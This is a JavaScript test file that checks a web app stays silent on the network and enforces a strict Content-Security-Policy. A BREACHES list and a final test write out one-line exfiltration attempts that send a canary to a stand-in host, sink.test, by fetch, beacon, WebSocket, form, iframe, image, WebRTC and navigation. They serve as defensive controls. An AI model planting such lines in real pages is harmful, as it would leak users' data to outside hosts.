// After it has loaded the app is silent: no request, no name looked up, no console message, whatever is pressed or typed.
// The red controls show that the same test catches what would break the promise.
import assert from "node:assert/strict";
import { createServer } from "node:net";
import { after, before, test } from "node:test";
import { openExplanations, openSample } from "../support/assessment.mjs";
import { BUILDS, startBrowser, until, withApp } from "../support/browser.mjs";
import { drawn, ROUTES, started, visit } from "../support/routes.mjs";

/** In every field; must not turn up in anything that leaves, nor in the address or the title's far end. */
const CANARY = "canary-7f3a91";
/** What a button does that would end the test; they have tests of their own. */
const DESTRUCTIVE = "#erase-now";

/** The page of use cases alone has hundreds of buttons, each pressed. */
const PATIENCE = 300_000;
/** Pages with few buttons, and how many those are at least. */
const FEW = { "#/": 8, "#/data": 3, "#/nowhere": 0 };

const shared = {};
const sink = { heard: [] };

// Every name that is looked up leads to the sink, so also what no request event tells of. Only the browser's own calls
// home, which no page can cause or stop, lead nowhere.
const VENDOR = ["google.com", "*.google.com", "*.googleapis.com", "*.gvt1.com", "*.gstatic.com"];

before(async () => {
  sink.server = createServer((socket) => {
    socket.on("error", () => {});
    socket.once("data", (bytes) => { sink.heard.push(`${bytes.subarray(0, 80)}`); socket.destroy(); });
  });
  await new Promise((ready) => sink.server.listen(0, "127.0.0.1", ready));
  const nowhere = VENDOR.map((name) => `MAP ${name} ~NOTFOUND`).join(", ");
  shared.browser = await startBrowser([`--host-resolver-rules=${nowhere}, MAP * 127.0.0.1:${sink.server.address().port}, EXCLUDE 127.0.0.1`]);
});
after(async () => {
  await shared.browser?.close();
  sink.server?.close();
});

/** Counts calls of everything a page could send with; some of it, like WebRTC, shows up nowhere else. */
const countWaysOut = (page) => page.addInitScript(() => {
  globalThis.waysOut = [];
  const count = (name) => ({ apply: (target, self, rest) => { waysOut.push(name); return Reflect.apply(target, self, rest); },
    // A worker out of the page's own memory asks nobody for anything.
    construct: (target, rest) => { if (!/^blob:/.test(rest[0])) waysOut.push(name); return Reflect.construct(target, rest); } });
  for (const name of ["fetch", "WebSocket", "EventSource", "RTCPeerConnection", "WebTransport", "Worker", "SharedWorker", "open"]) {
    if (globalThis[name]) globalThis[name] = new Proxy(globalThis[name], count(name));
  }
  XMLHttpRequest.prototype.send = new Proxy(XMLHttpRequest.prototype.send, count("XMLHttpRequest"));
  Navigator.prototype.sendBeacon = new Proxy(Navigator.prototype.sendBeacon, count("sendBeacon"));
});

for (const build of BUILDS) {
  for (const route of ROUTES) {
    test(`${build.name}: nothing is said or asked for, whatever is pressed and typed on ${route}`, () =>
      withApp({ ...shared, ...build.options, prepare: countWaysOut, patience: PATIENCE }, async ({ page, noise, server }) => {
        await started(page);
        page.on("filechooser", () => {});
        await page.evaluate(() => { globalThis.print = () => {}; waysOut.length = 0; });
        sink.heard.length = 0;
        await openSample(page, "bank");
        const asked = server?.requests.length;
        await visit(page, route);
        await openExplanations(page);
        await fillEverything(page);
        await switchEverything(page);
        // What was typed may leave a page little to show; the buttons are those of a company that is in order.
        await openSample(page, "bank");
        const pressed = [];
        for (;;) {
          await visit(page, route);
          const name = await press(page, pressed.length);
          if (name === undefined) break;
          pressed.push(name);
          await drawn(page);
          assert.deepEqual(noise.heard, [], `after pressing "${name}"`);
        }
        assert.ok(pressed.length >= (FEW[route] ?? 10), `only ${pressed.length} buttons were found: ${pressed.join(", ")}`);
        assert.ok(!page.url().includes(CANARY), "the address holds nothing that was typed");
        assert.deepEqual(await page.evaluate(() => waysOut), [], "no way out was tried");
        assert.deepEqual(sink.heard, [], "nothing reached the network");
        if (server) {
          assert.deepEqual(server.requests.slice(asked), [], "and nothing the server");
          assert.deepEqual(server.requests.filter(({ method }) => method !== "GET"), []);
        }
      }));
  }
}

/** Puts the canary into every field that takes text, as far as it takes it. */
async function fillEverything(page) {
  for (const field of await page.locator("main input[type=text], main textarea, main input:not([type])").all()) {
    if (await takes(field)) await field.fill(CANARY);
  }
  for (const field of await page.locator("main [inputmode=decimal]").all()) {
    if (await takes(field)) await field.fill("1234");
  }
  for (const field of await page.locator("main input[type=date]").all()) {
    if (await takes(field)) await field.fill("2026-01-31");
  }
  await drawn(page);
}

/** Whether something can be typed: what was typed before may have taken a field away or closed it. */
const takes = async (field) => (await field.count()) > 0 && (await field.isVisible()) && (await field.isEditable());

/** Chooses another option everywhere, and in the rail as well; ends in English and the theme of the system. */
async function switchEverything(page) {
  for (const select of await page.locator("select:visible").all()) {
    if (!(await select.count())) continue;
    const values = await select.locator("option").evaluateAll((options) => options.map(({ value }) => value));
    const first = await select.inputValue();
    for (const value of [values.at(-1), first]) {
      await select.selectOption(value);
      await drawn(page);
    }
  }
}

/** Presses the button, link or switch at this place of the page; undefined when there is none. */
async function press(page, at) {
  const target = page.locator(`button:not(:disabled):not(${DESTRUCTIVE}), summary, main input[type=checkbox], main input[type=radio]`).nth(at);
  if (!(await target.count())) return undefined;
  const name = await target.evaluate((element) => element.getAttribute("aria-label") ?? (element.textContent.trim() || element.id || element.name));
  await target.evaluate((element) => element.click());
  return name;
}

test("the answers carry the policy and the other headers that keep the page to itself", () => withApp({ ...shared }, async ({ origin }) => {
  for (const path of ["", "index.html", "llm-readiness.html"]) {
    const { headers } = await fetch(origin + path);
    const policy = Object.fromEntries(headers.get("content-security-policy").split(";").map((part) => part.trim().split(" ")).map(([name, ...rest]) => [name, rest.join(" ")]));
    assert.equal(policy["default-src"], "'none'");
    assert.equal(policy["connect-src"], "'self'");
    assert.equal(policy["script-src"], "'self' 'wasm-unsafe-eval'");
    assert.equal(policy["style-src"], "'self'");
    for (const name of ["base-uri", "form-action", "object-src", "frame-src", "frame-ancestors"]) assert.equal(policy[name], "'none'", name);
    assert.equal(policy["require-trusted-types-for"], "'script'");
    assert.equal(headers.get("referrer-policy"), "no-referrer");
    assert.equal(headers.get("x-content-type-options"), "nosniff");
    assert.equal(headers.get("cross-origin-opener-policy"), "same-origin");
    assert.match(headers.get("permissions-policy"), /camera=\(\).*microphone=\(\)/);
    assert.equal(headers.get("cache-control"), "no-cache");
  }
}));

test("the one file carries its policy itself, before anything else", () => withApp({ ...shared, oneFile: true }, async ({ page }) => {
  const head = await page.evaluate(() => [...document.head.children].slice(0, 2).map((element) => element.outerHTML));
  const policy = head.find((tag) => /Content-Security-Policy/i.test(tag));
  assert.ok(policy, `the policy is among the first tags: ${head.join(" ").slice(0, 300)}`);
  assert.match(policy, /default-src 'none'/);
  assert.match(policy, /connect-src 'none'/);
  assert.doesNotMatch(policy, /unsafe-inline|'unsafe-eval'/);
}));

/**
 * What would break the promise, each as a page could try it. Over http, because for a frame or a form Chromium opens the
 * connection before it asks the policy, and with TLS that alone says the name of the host; what counts is what is sent.
 */
const BREACHES = [
  ["a request to another host", /connect-src/, () => { fetch("http://sink.test/fetch").catch(() => {}); }],
  ["a picture from another host", /img-src/, () => { new Image().src = "http://sink.test/p.png?canary"; }],
  ["a beacon", /connect-src/, () => { navigator.sendBeacon("http://sink.test/b", "canary"); }],
  ["a socket", /connect-src/, () => { try { new WebSocket("ws://sink.test/canary"); } catch { /* refused at once */ } }],
  ["an old request", /connect-src/, () => { const request = new XMLHttpRequest(); request.open("POST", "http://sink.test/x"); try { request.send("canary"); } catch { /* refused at once */ } }],
  ["a form", /form-action/, () => { const form = Object.assign(document.createElement("form"), { action: "http://sink.test/f", method: "post", target: "_blank" }); document.body.append(form); form.submit(); }],
  ["a frame", /frame-src/, () => { document.body.append(Object.assign(document.createElement("iframe"), { src: "http://sink.test/frame?canary" })); }],
  ["a style attribute", /style-src/, () => { document.body.setAttribute("style", "background: url(http://sink.test/s.png)"); }],
  ["a style sheet", /style-src/, () => { document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "http://sink.test/s.css" })); }],
  ["a script", /TrustedScript|script-src/, () => { document.head.append(Object.assign(document.createElement("script"), { textContent: "1" })); }],
];

for (const build of BUILDS) {
  test(`${build.name}: each breach is stopped by the policy or caught here`, () => withApp({ ...shared, ...build.options }, async ({ page, noise }) => {
    await started(page);
    for (const [name, rule, breach] of BREACHES) {
      sink.heard.length = 0;
      noise.heard.length = 0;
      await page.evaluate(breach).catch((fault) => noise.heard.push(`refused: ${fault.message}`));
      await until(() => rule.test(noise.heard.join("\n")), `${name} went unnoticed`);
      assert.deepEqual(sink.heard, [], `${name} reached the network although the policy forbids it`);
      // Late reports of this breach must not count for the next one.
      await drawn(page);
    }
    noise.heard.length = 0;
  }));
}

test("what no policy stops, leaving the page and WebRTC, is caught here", async () => {
  await withApp({ ...shared, prepare: countWaysOut }, async ({ page, noise }) => {
    await started(page);
    sink.heard.length = 0;
    noise.expected = /request after load: GET http:\/\/sink\.test|ERR_EMPTY_RESPONSE|ERR_CONNECTION/;
    await page.evaluate(() => { waysOut.length = 0; new RTCPeerConnection({ iceServers: [{ urls: "stun:sink.test" }] }).createDataChannel("x"); });
    assert.deepEqual(await page.evaluate(() => waysOut), ["RTCPeerConnection"]);
    await page.evaluate(() => { location.href = "http://sink.test/?canary"; }).catch(() => {});
    await until(() => sink.heard.length > 0 && noise.provoked.some((line) => /^request after load: GET http:\/\/sink\.test/.test(line)), "leaving the page went unnoticed");
    assert.match(sink.heard.join(), /canary/);
  });
});
